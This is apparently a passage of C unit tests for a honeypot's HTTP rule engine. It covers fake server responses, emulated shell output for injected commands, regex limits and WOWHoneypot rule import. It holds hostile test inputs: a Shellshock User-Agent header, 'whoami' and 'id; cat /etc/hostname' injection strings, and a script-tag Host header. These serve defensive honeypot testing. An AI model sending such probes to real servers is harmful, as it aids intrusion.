    { "OPTIONS", "/", "", NULL, 60001, "jaws-dvr-method", 501, "501 Not Implemented" },
    { "GET", "/", "", NULL, 8000, "python-http-server", 200, "Directory listing for /" },
    { "GET", "/x.php", "", NULL, 8000, "python-http-server-404", 404, "File not found." },
    { "POST", "/", "", "a=1", 8000, "python-http-server-method", 501, NULL },
    { "GET", "/index.html", "", NULL, 80, "default", 200, "Welcome to nginx!" },
    /* the welcome page's other name is the packager's (the Server header says which) */
    { "GET", "/index.html", "", NULL, 80, "default", 200, "Welcome to nginx!", "nginx/1.26.0" },
    { "GET", "/index.htm", "", NULL, 80, "not-found", 404, "404 Not Found", "nginx/1.26.0" },
    { "GET", "/index.nginx-debian.html", "", NULL, 80, "not-found", 404, NULL, "nginx/1.20.1" },
    { "GET", "/index.html", "", NULL, 80, "not-found-debian", 404, "404 Not Found", "nginx/1.22.1" },
    { "GET", "/index.html", "", NULL, 80, "not-found-debian", 404, NULL, "nginx/1.18.0 (Ubuntu)" },
    { "GET", "/index.nginx-debian.html", "", NULL, 80, "default", 200, "Welcome to nginx!", "nginx/1.24.0 (Ubuntu)" },
    { "GET", "/", "", NULL, 80, "default", 200, "Welcome to nginx!", "nginx/1.14.2" },
    { "GET", "/a/../index.nginx-debian.html", "", NULL, 80, "default", 200, NULL, "nginx/1.22.1" },
    { "GET", "/?x=1", "", NULL, 80, "default", 200, "Welcome to nginx!" },
    { "POST", "/", "Content-Type: application/x-www-form-urlencoded\n", "a=b", 80, "default", 200, NULL },
};

static void test_shipped_rules(void **state)
{
    char err[512] = "";
    struct hp_webrules *r = hp_webrules_builtin(err, sizeof(err));
    if (!r)
        fail_msg("builtin rules: %s", err);
    const char *seen[256];
    size_t nseen = 0;
    for (size_t i = 0; i < sizeof(shipped) / sizeof(shipped[0]); i++) {
        const struct shipped_case *c = &shipped[i];
        size_t k = 0;
        while (k < nseen && strcmp(seen[k], c->id) != 0)
            k++;
        if (k == nseen && nseen < 256)
            seen[nseen++] = c->id;
        struct tview t;
        struct hp_http_view *v = mkview(&t, c->method, c->target, c->headers, c->body,
                                        c->body ? strlen(c->body) : 0, c->port);
        if (c->server)
            v->server = B(c->server, strlen(c->server));
        const struct hp_webresp *resp = hp_webrules_match(r, v);
        if (!resp || strcmp(resp->id, c->id) != 0)
            fail_msg("case %zu %s %s: got rule %s, want %s", i, c->method, c->target,
                     resp ? resp->id : "(none)", c->id);
        if (resp->status != c->status)
            fail_msg("case %zu: status %d, want %d", i, resp->status, c->status);
        char *h, *b;
        render(resp, v, &h, &b);
        if (c->in_body && !strstr(b, c->in_body))
            fail_msg("case %zu (%s): body lacks '%s':\n%.400s", i, c->id, c->in_body, b);
        if (strstr(h, "{{") || strstr(b, "{{"))
            fail_msg("case %zu (%s): template left unexpanded", i, c->id);
        /* every header line is "Name: value" and none is module-owned */
        assert_null(strstr(h, "Content-Length"));
        assert_null(strstr(h, "Connection:"));
        if (strcmp(c->id, "tomcat-manager-401") == 0) {
            assert_non_null(strstr(h, "WWW-Authenticate: Basic realm=\"Tomcat Manager Application\"\r\n"));
            assert_null(resp->auth_realm);
        }
        if (strcmp(c->id, "tomcat-manager") == 0)
            assert_string_equal(resp->auth_realm, "Tomcat Manager Application");
        /* a rule's empty "Server:" means none (http.c drops the line and adds no default) */
        if (strcmp(c->id, "elasticsearch-banner") == 0 || strcmp(c->id, "geth-health") == 0)
            assert_non_null(strstr(h, "Server:\r\n"));
        if (strcmp(c->id, "phpmyadmin-redirect") == 0)
            assert_non_null(strstr(h, "Location: http://10.0.0.5:8080/phpmyadmin/\r\n"));
        free(h);
        free(b);
    }
    /* Every shipped rule is answered by at least one real request above. */
    assert_int_equal(nseen, hp_webrules_count(r));
    hp_webrules_free(r);
}

/* ---- templates ------------------------------------------------------------------ */

static void test_templates(void **state)
{
    struct hp_webrules *r = load_ok(
        "rule u\n  match path ^/u$\n  body {{random_hex:8}}\nend\n"
        "rule t\n"
        "  header Date-Copy: {{date}}\n"
        "  header Location: http://{{host}}{{path}}/\n"
        "  body <<E\n"
        "[{{server}}] [{{random_hex:8}}] [{{random_hex:8}}] [{{random_hex:100:k}}] [{{random_hex:100:k}}]\n"
        "[{{jsonrpc_id}}] [{{nope}}] [{{random_hex:0}}] [{{random_hex:129}}] [{{ unterminated {x} {{\n"
        "E\n"
        "end\n");
    struct tview t;
    static const char jb[] = "[{\"jsonrpc\":\"2.0\",\"params\":{\"id\":5},\"id\": \"x-1\"}]";
    struct hp_http_view *v = mkview(&t, "POST", "/a/b", "Host: example.org:8080\n", jb, strlen(jb), 80);
    const struct hp_webresp *resp = hp_webrules_match(r, v);
    char *h, *b;
    render(resp, v, &h, &b);
    /* "Date-Copy: Fri, 04 Dec 2026 16:37:36 GMT\r\n" */
    const char *d = strstr(h, "Date-Copy: ");
    assert_non_null(d);
    d += 11;
    assert_int_equal(strcspn(d, "\r"), 29);
    assert_true(d[3] == ',' && d[4] == ' ' && memcmp(d + 26, "GMT", 3) == 0);
    assert_non_null(strstr(h, "Location: http://example.org:8080/a/b/\r\n"));
    char hx1[9], hx2[9], k1[101], k2[101], id[16];
    assert_int_equal(sscanf(b, "[nginx] [%8[0-9a-f]] [%8[0-9a-f]] [%100[0-9a-f]] [%100[0-9a-f]]\n[%15[^]]]",
                            hx1, hx2, k1, k2, id), 5);
    assert_string_not_equal(hx1, hx2);          /* two slots differ */
    assert_string_equal(k1, k2);                /* a key is a key */
    assert_int_equal(strlen(k1), 100);
    assert_string_equal(id, "\"x-1\"");
    assert_non_null(strstr(b, "[{{nope}}] [{{random_hex:0}}] [{{random_hex:129}}] [{{ unterminated {x} {{\n"));
    /* Stable: rendering again gives the same values. */
    char *h2, *b2;
    render(resp, v, &h2, &b2);
    assert_memory_equal(b, b2, 60);
    free(h2);
    free(b2);
    free(h);
    free(b);

    /* Decimal digits: a JSON number (no leading 0), 40 of them across two digest blocks;
     * persona facts are the Debian box the SSH shell shows. */
    struct hp_webrules *rd = load_ok("rule d\n  body [{{random_dec:40}}] [{{random_dec:1:k}}] [{{random_dec:129}}]"
                                     " [{{persona:kernel}}] [{{persona:os}}] [{{persona:nope}}]\n  chomp\nend\n");
    v = mkview(&t, "GET", "/", "", NULL, 0, 80);
    render(hp_webrules_match(rd, v), v, &h, &b);
    char dec[41], d1[2], kern[64];
    assert_int_equal(sscanf(b, "[%40[0-9]] [%1[0-9]] [{{random_dec:129}}] [%63[^]]]", dec, d1, kern), 3);
    assert_int_equal(strlen(dec), 40);
    assert_true(dec[0] != '0' && d1[0] != '0');
    const struct hp_persona *deb = hp_persona_get("debian");
    assert_string_equal(kern, deb->kernel_release);
    char os_want[160];
    snprintf(os_want, sizeof(os_want), "] [%s] [{{persona:nope}}]", deb->os_name);
    assert_non_null(strstr(b, os_want));
    free(h);
    free(b);
    hp_webrules_free(rd);

    /* Hostile Host and path fall back; ids that are not plain JSON give null. */
    static const struct { const char *body; const char *id; } ids[] = {
        { "{\"id\":12}", "12" }, { "{\"id\":-1.5e3,\"method\":\"x\"}", "-1.5e3" }, { "{\"id\":null}", "null" },
        { "{\"method\":\"x\"}", "null" }, { "{\"id\":{\"a\":1}}", "null" }, { "{\"id\":true}", "null" },
        { "{\"id\":\"a\\\"b\"}", "\"a\\\"b\"" }, { "not json", "null" }, { "{\"id\":\"unterminated", "null" },
        { "{\"a\":[1,{\"id\":2}],\"id\":3}", "3" }, { "", "null" },
    };
    struct hp_webrules *r2 = load_ok("rule j\n  body {{jsonrpc_id}}|{{host}}|{{path}}\n  chomp\nend\n");
    for (size_t i = 0; i < sizeof(ids) / sizeof(ids[0]); i++) {
        v = mkview(&t, "POST", "/x\"y", "Host: evil\"<script>\n", ids[i].body, strlen(ids[i].body), 80);
        render(hp_webrules_match(r2, v), v, &h, &b);
        char want[64];
        snprintf(want, sizeof(want), "%s|localhost|/", ids[i].id);
        if (strcmp(b, want) != 0)
            fail_msg("id case %zu: got '%s', want '%s'", i, b, want);
        free(h);
        free(b);
    }
    hp_webrules_free(r2);

    /* A path with '&' or '\'' in an XML or HTML body is escaped as the servers
     * these pages copy escape it; in a JSON body and in a header it is as sent. */
    static const struct { const char *ctype; const char *body; const char *loc; } paths[] = {
        { "application/xml", "<R>/a&amp;b&#39;c</R>", "/a&b'c" },
        { "text/html;charset=iso-8859-1", "<R>/a&amp;b&#39;c</R>", "/a&b'c" },
        { "application/json", "<R>/a&b'c</R>", "/a&b'c" },
    };
    for (size_t i = 0; i < sizeof(paths) / sizeof(paths[0]); i++) {
        char rule[256];
        snprintf(rule, sizeof(rule),
                 "rule p\n  header Content-Type: %s\n  header Location: {{path}}\n  body <R>{{path}}</R>\n  chomp\nend\n",
                 paths[i].ctype);
        r2 = load_ok(rule);
        v = mkview(&t, "GET", "/a&b'c", "", NULL, 0, 80);
        render(hp_webrules_match(r2, v), v, &h, &b);
        assert_string_equal(b, paths[i].body);
        char want[64];
        snprintf(want, sizeof(want), "Location: %s\r\n", paths[i].loc);
        assert_non_null(strstr(h, want));
        free(h);
        free(b);
        hp_webrules_free(r2);
    }

    /* random_hex depends on the rule too, and on the secret. */
    v = mkview(&t, "GET", "/u", "", NULL, 0, 80);
    render(hp_webrules_match(r, v), v, &h, &b);
    assert_int_equal(strlen(b), 9);
    assert_memory_not_equal(b, hx1, 8);
    hp_webrules_set_secret("sensor-1", 8);
    render(hp_webrules_match(r, v), v, &h2, &b2);
    assert_string_not_equal(b, b2);
    free(h2);
    free(b2);
    hp_webrules_set_secret("sensor-1", 8);
    render(hp_webrules_match(r, v), v, &h2, &b2);
    char *b3 = b2, *h3 = h2;
    hp_webrules_set_secret("sensor-1", 8);
    render(hp_webrules_match(r, v), v, &h2, &b2);
    assert_string_equal(b3, b2);
    free(h3);
    free(b3);
    free(h2);
    free(b2);
    free(h);
    free(b);
    /* Output stays within the buffers' caps. */
    struct hp_buf hb, bb;
    hp_buf_init(&hb, 8);
    hp_buf_init(&bb, 8);
    hp_webresp_render(hp_webrules_match(r, v), v, NULL, &hb, &bb);
    assert_true(hb.len <= 8 && bb.len <= 8);
    hp_buf_free(&hb);
    hp_buf_free(&bb);
    hp_webrules_free(r);
}

/* The static site's Last-Modified and ETag: nginx's forms, from the sensor's
 * site time and the body; random_hex slots numbered as without an ETag. */
static void test_site_templates(void **state)
{
    (void)state;
    struct hp_webrules *r = load_ok(
        "rule s\n  header X-Key: {{random_hex:8}}\n  header Last-Modified: {{site_modified}}\n"
        "  header ETag: {{site_etag}}\n  body hello-{{random_hex:4}}\n  chomp\n  static\nend\n");
    /* the same rule id without the ETag: its random_hex slots must be numbered alike */
    struct hp_webrules *r2 = load_ok(
        "rule s\n  header X-Key: {{random_hex:8}}\n  body hello-{{random_hex:4}}\n  chomp\nend\n");
    struct tview t;
    struct hp_http_view *v = mkview(&t, "GET", "/", "", NULL, 0, 80);
    hp_webrules_set_site_time(1681177534);            /* Tue, 11 Apr 2023 01:45:34 GMT */
    const struct hp_webresp *resp = hp_webrules_match(r, v);
    assert_true(resp->nginx_static);
    char *h, *b, *h2, *b2;
    render(resp, v, &h, &b);
    assert_int_equal(strlen(b), 10);                  /* "hello-" and four digits */
    assert_non_null(strstr(h, "Last-Modified: Tue, 11 Apr 2023 01:45:34 GMT\r\n"));
    assert_non_null(strstr(h, "ETag: \"6434bbbe-a\"\r\n"));
    const struct hp_webresp *p = hp_webrules_match(r2, v);
    assert_false(p->nginx_static);
    render(p, v, &h2, &b2);
    assert_string_equal(b, b2);
    assert_memory_equal(h, h2, strlen("X-Key: 01234567\r\n"));
    free(h);
    free(b);
    free(h2);
    free(b2);
    hp_webrules_free(r);
    hp_webrules_free(r2);
}

/* ---- PCRE2 limits ---------------------------------------------------------------- */

/* {{shell_output}}: what the injected commands print on the emulated
 * machine (never run), root on the Debian box, a user's account, or the
 * busybox device; stderr dropped; empty without an injection; and no more
 * than the burst in a moment (counted in sensor.stats). */
static void test_shell_output(void **state)
{
    (void)state;
    struct hp_webrules *r = load_ok("rule www\n  match path ^/www$\n  body {{shell_output:www-data}}\nend\n"
                                    "rule bb\n  match path ^/bb$\n  body {{shell_output:busybox}}\nend\n"
                                    "rule run\n  body [{{shell_output}}]\nend\n");
    struct tview t;
    char *h, *b;
    struct hp_http_view *v = mkview(&t, "POST", "/run", "", NULL, 0, 10250);
    uint64_t shed0 = hp_sensor.n.oneshot_shed;
    render(hp_webrules_match(r, v), v, &h, &b);
    assert_string_equal(b, "[]\n");                     /* nothing injected; body adds a line end */
    free(h), free(b);
    static const char cmd[] = "echo $((6*7)); id; nosuchcmd; cat /etc/hostname\necho two";
    v->injected = B(cmd, sizeof(cmd) - 1);
    render(hp_webrules_match(r, v), v, &h, &b);
    char want[512];
    snprintf(want, sizeof(want), "[42\nuid=0(root) gid=0(root) groups=0(root)\n%s\ntwo\n]\n",
             hp_persona_get("debian")->hostname);
    assert_string_equal(b, want);
    free(h), free(b);
    v = mkview(&t, "POST", "/www", "", NULL, 0, 80);
    v->injected = B("id; pwd", 7);
    render(hp_webrules_match(r, v), v, &h, &b);
    assert_string_equal(b, "uid=33(www-data) gid=33(www-data) groups=33(www-data)\n/var/www\n\n");
    free(h), free(b);
    v = mkview(&t, "POST", "/bb", "", NULL, 0, 80);
    v->injected = B("uname -m; busybox | head -1", 27);
    render(hp_webrules_match(r, v), v, &h, &b);
    const struct hp_persona *bb = hp_persona_get("busybox");
    assert_true(strncmp(b, bb->machine, strlen(bb->machine)) == 0);
    assert_non_null(strstr(b, "\nBusyBox v"));
    free(h), free(b);
    /* a burst: some answers come back empty, each counted */
    v = mkview(&t, "POST", "/run", "", NULL, 0, 10250);
    v->injected = B("echo x", 6);
    int empty = 0;
    for (int i = 0; i < 40; i++) {
        render(hp_webrules_match(r, v), v, &h, &b);
        empty += strcmp(b, "[]\n") == 0;
        assert_true(strcmp(b, "[]\n") == 0 || strcmp(b, "[x\n]\n") == 0);
        free(h), free(b);
    }
    assert_true(empty >= 15);
    assert_int_equal(hp_sensor.n.oneshot_shed - shed0, (uint64_t)empty);
    hp_webrules_free(r);
}

static void test_regex_limits(void **state)
{
    struct hp_webrules *r = load_ok(
        "rule evil\n  match body ^(a+)+$\nend\n"
        "rule evil2\n  match body (?:a|aa)*(?:a|aa)*(?:a|aa)*c\nend\n"
        "rule evil3\n  match header X-A ^(\\w+\\s?)*$\nend\n"
        "rule fallback\nend\n");
    static char body[65536];
    memset(body, 'a', sizeof(body) - 1);
    body[sizeof(body) - 1] = 'b';
    static char hval[8192 + 32];
    memcpy(hval, "X-A: ", 5);
    for (size_t i = 0; i < 8192; i++)
        hval[5 + i] = (i % 7 == 6) ? ' ' : 'w';
    memcpy(hval + 5 + 8192, "!\n", 3);
    struct tview t;
    struct timespec t0, t1;
    clock_gettime(CLOCK_MONOTONIC, &t0);
    for (int k = 0; k < 3; k++) {
        struct hp_http_view *v = mkview(&t, "POST", "/", hval, body, sizeof(body), 80);
        assert_string_equal(match_id(r, v), "fallback");
    }
    clock_gettime(CLOCK_MONOTONIC, &t1);
    double ms = (double)(t1.tv_sec - t0.tv_sec) * 1e3 + (double)(t1.tv_nsec - t0.tv_nsec) / 1e6;
    if (ms > 2000)
        fail_msg("catastrophic regexes took %.0f ms", ms);
    hp_webrules_free(r);
}

/* ---- loading from files ----------------------------------------------------------- */

static void test_load_file(void **state)
{
    char err[512] = "";
    struct hp_webrules *r = hp_webrules_load_file("data/http/responses.rules", NULL, err, sizeof(err));
    if (!r)
        fail_msg("%s", err);
    struct hp_webrules *b = hp_webrules_builtin(err, sizeof(err));
    assert_non_null(b);
    assert_int_equal(hp_webrules_count(r), hp_webrules_count(b));
    assert_true(hp_webrules_count(r) >= 40);
    struct tview t;
    const struct hp_webresp *x = hp_webrules_match(r, mkview(&t, "GET", "/wp-login.php", "", NULL, 0, 80));
    const struct hp_webresp *y = hp_webrules_match(b, &t.v);
    assert_int_equal(x->body_len, y->body_len);
    assert_memory_equal(x->body, y->body, x->body_len);
    hp_webrules_free(r);
    hp_webrules_free(b);
    assert_null(hp_webrules_load_file("/nonexistent/x.rules", NULL, err, sizeof(err)));
    assert_true(strncmp(err, "/nonexistent/x.rules:0: cannot open", 35) == 0);
}

/* ---- WOWHoneypot import ------------------------------------------------------------ */

static void test_wow_import(void **state)
{
    char err[512] = "";
    struct hp_webrules *r = load_ok("rule login\n  match path ^/login$\n  body mine\nend\nrule default\nend\n");
    int n = hp_webrules_add_wow(r, "tests/data/wow/mrrules.xml", NULL, err, sizeof(err));
    if (n < 0)
        fail_msg("%s", err);
    assert_int_equal(n, 8);                          /* 1022 is disabled */
    assert_int_equal(hp_webrules_count(r), 10);
    struct tview t;
    const struct hp_webresp *resp;
    /* Imported rules come first: GET /login is WOW's 1001 with the stripped file. */
    resp = hp_webrules_match(r, mkview(&t, "GET", "/login", "", NULL, 0, 80));
    assert_string_equal(resp->id, "wow-1001");
    assert_int_equal(resp->status, 200);
    assert_string_equal(resp->headers, "Content-Type: text/html\r\n");
    assert_int_equal(resp->body_len, strlen("<html><body><form method=\"post\" action=\"/login\">user <input name=\"u\"></form></body></html>"));
    assert_memory_equal(resp->body, "<html>", 6);
    assert_string_equal(resp->tags, "wowhoneypot");
    resp = hp_webrules_match(r, mkview(&t, "POST", "/login", "", "u=a", 3, 80));
    assert_string_equal(resp->id, "wow-1002");
    assert_memory_equal(resp->body, "login failed.", resp->body_len);
    /* Highest mrrid first: 1021 (backdoor) before 1020 (.jsp). */
    resp = hp_webrules_match(r, mkview(&t, "GET", "/x/diZPqEAuJM.jsp", "", NULL, 0, 8080));
    assert_string_equal(resp->id, "wow-1021");
    assert_string_equal(resp->headers, "Server: Apache-Coyote/1.1\r\nContent-Type: text/html\r\n");
    assert_string_equal(match_id(r, mkview(&t, "GET", "/index.jsp", "", NULL, 0, 8080)), "wow-1020");
    /* <mothod> is ignored as in WOWHoneypot: any method on command.php. */
    assert_string_equal(match_id(r, mkview(&t, "GET", "/command.php", "", NULL, 0, 80)), "wow-1008");
    /* uri matches the raw target, query included. */
    assert_string_equal(match_id(r, mkview(&t, "GET", "/a?next=/phpMyAdmin/", "", NULL, 0, 80)), "wow-1007");
    resp = hp_webrules_match(r, mkview(&t, "GET", "/phpMyAdmin/", "", NULL, 0, 80));
    assert_string_equal(resp->headers, "Set-Cookie: phpMyAdmin=1vbs1ar15h9a880ekmr49f4p4pvbuh89; path=/phpmyadmin/; "
                                       "HttpOnly\r\nContent-Type: text/html\r\n");
    /* header: regex on all header lines; body: only with a body. */
    assert_string_equal(match_id(r, mkview(&t, "GET", "/cgi-bin/x", "User-Agent: () { :; }; echo 2014 | md5sum\n",
                                           NULL, 0, 80)), "wow-1010");
    assert_string_equal(match_id(r, mkview(&t, "POST", "/x", "", "c=whoami", 8, 80)), "wow-1014");
    assert_string_equal(match_id(r, mkview(&t, "GET", "/x?c=whoami", "", NULL, 0, 80)), "default");
    /* Disabled rule: falls to ours. */
    assert_string_equal(match_id(r, mkview(&t, "PROPFIND", "/", "", NULL, 0, 80)), "default");
    /* Adding the same file again: duplicate ids, and the set is unchanged. */
    assert_int_equal(hp_webrules_add_wow(r, "tests/data/wow/mrrules.xml", NULL, err, sizeof(err)), -1);
    assert_non_null(strstr(err, "duplicate mrrid 1001"));
    assert_int_equal(hp_webrules_count(r), 10);
    hp_webrules_free(r);
}

static void test_wow_errors(void **state)
{
    static const struct { const char *xml, *expect; } cases[] = {
        { "<mrrs>\n<mrr>\n", "w.xml:2: <mrr> not closed" },
        { "<x/>", "w.xml:1: the root element must be <mrrs>" },
        { "<mrrs version='0.2'>\n</mrrs>", "w.xml:1: no <mrr> in <mrrs>" },
        { "<mrrs>\n <mrr><meta><mrrid>1</mrrid><enable>True</enable></meta><trigger><uri>a</uri></trigger>"
          "<response><body>x</body></response></mrr>\n</mrrs>", "w.xml:2: <mrrid> must be an integer 1000..65535" },
        { "<mrrs>\n<mrr>\n<meta><mrrid>1000</mrrid></meta><trigger/><response/></mrr></mrrs>",
          "w.xml:3: <enable> is required" },
        { "<mrrs><mrr><meta><mrrid>1000</mrrid><enable>True</enable></meta>\n<trigger><note>x</note></trigger>"
          "<response><body>x</body></response></mrr></mrrs>", "w.xml:2: no trigger" },
        { "<mrrs><mrr><meta><mrrid>1000</mrrid><enable>True</enable></meta><trigger>\n<uri>(</uri></trigger>"
          "<response><body>x</body></response></mrr></mrrs>", "w.xml:2: invalid regex" },
        { "<mrrs><mrr><meta><mrrid>1000</mrrid><enable>True</enable></meta><trigger><uri>a</uri></trigger>"
          "\n<response><status>abc</status><body>x</body></response></mrr></mrrs>", "w.xml:2: status must be" },
        { "<mrrs><mrr><meta><mrrid>1000</mrrid><enable>True</enable></meta><trigger><uri>a</uri></trigger>"
          "\n<response></response></mrr></mrrs>", "w.xml:2: response <body> required" },
        { "<mrrs><mrr><meta><mrrid>1000</mrrid><enable>True</enable></meta><trigger><uri>a</uri></trigger>"
          "<response>\n<body filename=\"../x\"></body></response></mrr></mrrs>", "w.xml:2: <body> needs text" },
        { "<mrrs><mrr><meta><mrrid>1000</mrrid><enable>True</enable></meta><trigger><uri>a</uri></trigger>"
          "<response>\n<body filename=\"nope.html\"></body></response></mrr></mrrs>", "w.xml:2: cannot open ./nope.html" },
        { "<mrrs><mrr><meta><mrrid>1000</mrrid><enable>True</enable></meta><trigger><uri>a &bogus; b</uri>",
          "w.xml:1: bad entity reference" },
        { "<mrrs><mrr></mrrs>", "w.xml:1: unexpected </mrrs>" },
        { "<mrrs><![CDATA[x", "w.xml:1: unterminated CDATA" },
        { "<mrrs><a b=c></a></mrrs>", "w.xml:1: attribute b: value must be quoted" },
    };
    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        char err[512] = "";
        struct hp_webrules *r = load_ok("rule d\nend\n");
        int n = hp_webrules_add_wow_text(r, cases[i].xml, strlen(cases[i].xml), "w.xml", ".", err, sizeof(err));
        if (n >= 0 || strncmp(err, cases[i].expect, strlen(cases[i].expect)) != 0)
            fail_msg("case %zu: got %d '%s', want '%s'", i, n, err, cases[i].expect);
        assert_int_equal(hp_webrules_count(r), 1);
        hp_webrules_free(r);
    }
    /* Deep nesting is refused, not recursed into. */
    char deep[2000] = "<mrrs>";
    for (int i = 0; i < 100; i++)
        strcat(deep, "<a>");
    char err[256] = "";
    struct hp_webrules *r = load_ok("");
    assert_int_equal(hp_webrules_add_wow_text(r, deep, strlen(deep), "w.xml", ".", err, sizeof(err)), -1);
    assert_non_null(strstr(err, "nested too deep"));
    hp_webrules_free(r);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_parse_errors),
        cmocka_unit_test(test_parse_features),
        cmocka_unit_test(test_first_match_and_negation),
        cmocka_unit_test(test_shipped_rules),
        cmocka_unit_test(test_templates),
        cmocka_unit_test(test_site_templates),
        cmocka_unit_test(test_shell_output),
        cmocka_unit_test(test_regex_limits),
        cmocka_unit_test(test_load_file),
        cmocka_unit_test(test_wow_import),
        cmocka_unit_test(test_wow_errors),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
